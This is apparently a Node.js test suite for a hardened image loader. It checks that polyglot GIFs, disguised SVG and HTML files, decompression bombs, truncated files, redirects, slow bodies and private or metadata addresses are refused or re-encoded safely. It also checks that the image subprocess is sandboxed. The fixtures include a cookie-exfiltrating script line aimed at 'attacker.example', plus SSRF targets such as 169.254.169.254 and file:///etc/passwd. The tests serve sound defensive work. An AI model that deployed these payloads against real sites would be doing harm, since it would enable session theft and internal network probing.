import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { rmSync } from 'node:fs'
import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import sharp from 'sharp'
import { readConfig } from '../ops/config.ts'
import type { Ctx } from '../ops/context.ts'
import { makeLogger } from '../ops/log.ts'
import { pngOf } from '../../../test/fixtures/png.ts'
import { ImageRefused, makeImageLoader, runLimited, withoutNetwork } from './images.ts'

type Answer = (response: ServerResponse) => void

/** A buyer's server on loopback; `requested` are the paths that somebody asked for. */
const startServer = async (answers: Readonly<Record<string, Answer>>) => {
  const requested: string[] = []
  const server = createServer((request, response) => {
    requested.push(request.url ?? '')
    const answer = answers[request.url ?? '']
    if (answer) answer(response)
    else response.writeHead(404).end()
  })
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve)
  })
  after(() => {
    server.closeAllConnections()
    server.close()
  })
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requested }
}

const bytesOf =
  (bytes: Buffer | string, type = 'image/png'): Answer =>
  (response) =>
    response.writeHead(200, { 'content-type': type }).end(bytes)

const picture = sharp({ create: { width: 3_000, height: 1_500, channels: 3, background: '#5c4a39' } })
const photo = await picture
  .clone()
  .jpeg()
  .withExif({ IFD0: { Copyright: 'a canary' }, IFD3: { GPSLatitude: '48/1 8/1 0/1' } })
  .toBuffer()
const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } })
  .gif()
  .toBuffer()
const script = '<script>fetch("//attacker.example/" + document.cookie)</script>'

const internal = await startServer({ '/secret.png': bytesOf(pngOf(8, 8)) })
const buyer = await startServer({
  '/photo.jpg': bytesOf(photo, 'image/jpeg'),
  '/small.png': bytesOf(pngOf(640, 420)),
  '/polyglot.gif': bytesOf(Buffer.concat([gif, Buffer.from(script)]), 'image/gif'),
  '/fake.gif': bytesOf(`GIF89a/*${script}`, 'image/gif'),
  '/page.png': bytesOf(`<!doctype html>${script}`),
  '/drawing.svg': bytesOf(
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${internal.url}/secret.png"/></svg>`,
    'image/svg+xml',
  ),
  '/drawing.png': bytesOf(
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
  ),
  '/bomb.png': bytesOf(pngOf(60_000, 60_000)),
  '/cut.jpg': bytesOf(photo.subarray(0, photo.length / 2), 'image/jpeg'),
  '/large.png': bytesOf(Buffer.concat([pngOf(8, 8), Buffer.alloc(9 * 1_048_576)])),
  '/moved.png': (response) =>
    response.writeHead(302, { location: `${internal.url}/secret.png` }).end(pngOf(8, 8)),
  '/slow.png': (response) => {
    const bytes = pngOf(640, 420)
    response.writeHead(200, { 'content-type': 'image/png', 'content-length': bytes.length })
    response.write(bytes.subarray(0, 100))
  },
})

const contextWith = (environment: Record<string, string>): Ctx =>
  ({
    config: readConfig({ DATABASE_URL: 'postgres://127.0.0.1/none', ...environment }),
    log: makeLogger('silent'),
  }) as Ctx
const load = makeImageLoader(contextWith({}), 3_000)

const faultOf = async (url: string, loader = load): Promise<string> => {
  try {
    await loader(url)
  } catch (error) {
    if (error instanceof ImageRefused) return error.fault
    throw error
  }
  return 'shown'
}

test('an image is fetched once and encoded anew, bounded in size and without its metadata', async () => {
  const image = await load(`${buyer.url}/photo.jpg`)
  const { format, width, height, exif } = await sharp(image).metadata()
  assert.deepEqual([format, width, height, exif], ['webp', 2_048, 1_024, undefined])
  assert.ok(photo.includes('a canary') && !image.includes('a canary'))
  assert.deepEqual(
    buyer.requested.filter((path) => path === '/photo.jpg'),
    ['/photo.jpg'],
  )
  const small = await sharp(await load(`${buyer.url}/small.png`)).metadata()
  assert.deepEqual([small.format, small.width, small.height], ['webp', 640, 420])
})

test('of a file that is an image and a page, the image alone is left', async () => {
  const image = await load(`${buyer.url}/polyglot.gif`)
  assert.equal((await sharp(image).metadata()).format, 'webp')
  assert.ok(!image.includes('script'))
})

for (const [name, path, fault] of [
  ['an SVG, and it loads nothing', 'drawing.svg', 'not_an_image'],
  ['an SVG that is called PNG', 'drawing.png', 'not_an_image'],
  ['a page', 'page.png', 'not_an_image'],
  ['a script that begins like a GIF', 'fake.gif', 'not_an_image'],
  ['an image of 3.6 billion pixels', 'bomb.png', 'not_an_image'],
  ['a file that ends in the middle', 'cut.jpg', 'not_an_image'],
  ['a file above the size limit', 'large.png', 'too_large'],
  ['a redirect to another address', 'moved.png', 'not_found'],
  ['a missing file', 'nothing.png', 'not_found'],
] as const)
  test(`${name} is refused`, async () => {
    assert.equal(await faultOf(`${buyer.url}/${path}`), fault)
    assert.deepEqual(internal.requested, [])
  })

test('a body that does not end in time is refused', async () => {
  const hurried = makeImageLoader(contextWith({}), 300)
  assert.equal(await faultOf(`${buyer.url}/slow.png`, hurried), 'unreachable')
})

test('an address that is not public is refused before anything is sent', async () => {
  const before = buyer.requested.length
  const online = makeImageLoader(contextWith({ BASE_URL: 'https://pohf.example', HOST: '127.0.0.1' }), 3_000)
  for (const url of [`${buyer.url}/small.png`, 'http://169.254.169.254/latest', 'file:///etc/passwd'])
    await assert.rejects(
      online(url),
      (error) => error instanceof ImageRefused && error.fault === 'address_refused',
    )
  assert.equal(buyer.requested.length, before)
})

const runNode = (text: string, before: readonly string[] = []) =>
  runLimited([...before, process.execPath, '-e', text], Buffer.alloc(0))

test('the image process has no settings, bounded memory and writes no file', async () => {
  const environment = await runNode('process.stdout.write(JSON.stringify(Object.keys(process.env)))')
  assert.deepEqual(
    JSON.parse(environment.output.toString()).filter(
      (name: string) => !['PWD', 'PATH', '_', 'OLDPWD', 'SHLVL'].includes(name),
    ),
    [],
  )
  const greedy = await runNode('const all = []; for (;;) all.push(Buffer.alloc(1e8, 1))')
  assert.notEqual(greedy.code, 0)
  const file = join(tmpdir(), 'pohf-image-process-test')
  const writer = await runNode(`require("fs").writeFileSync(${JSON.stringify(file)}, "x".repeat(9))`)
  rmSync(file, { force: true })
  assert.notEqual(writer.code, 0)
})

const isolated = spawnSync('unshare', ['--map-root-user', '--net', 'true']).status === 0
test(
  'the image process reaches no server, not even on this machine',
  { skip: isolated ? false : 'no network namespaces are permitted here' },
  async () => {
    const connect = `fetch('${internal.url}/secret.png').then(() => process.exit(0), () => process.exit(7))`
    assert.equal((await runNode(connect, withoutNetwork)).code, 7)
    assert.deepEqual(internal.requested, [])
    assert.equal((await runNode(connect)).code, 0)
  },
)
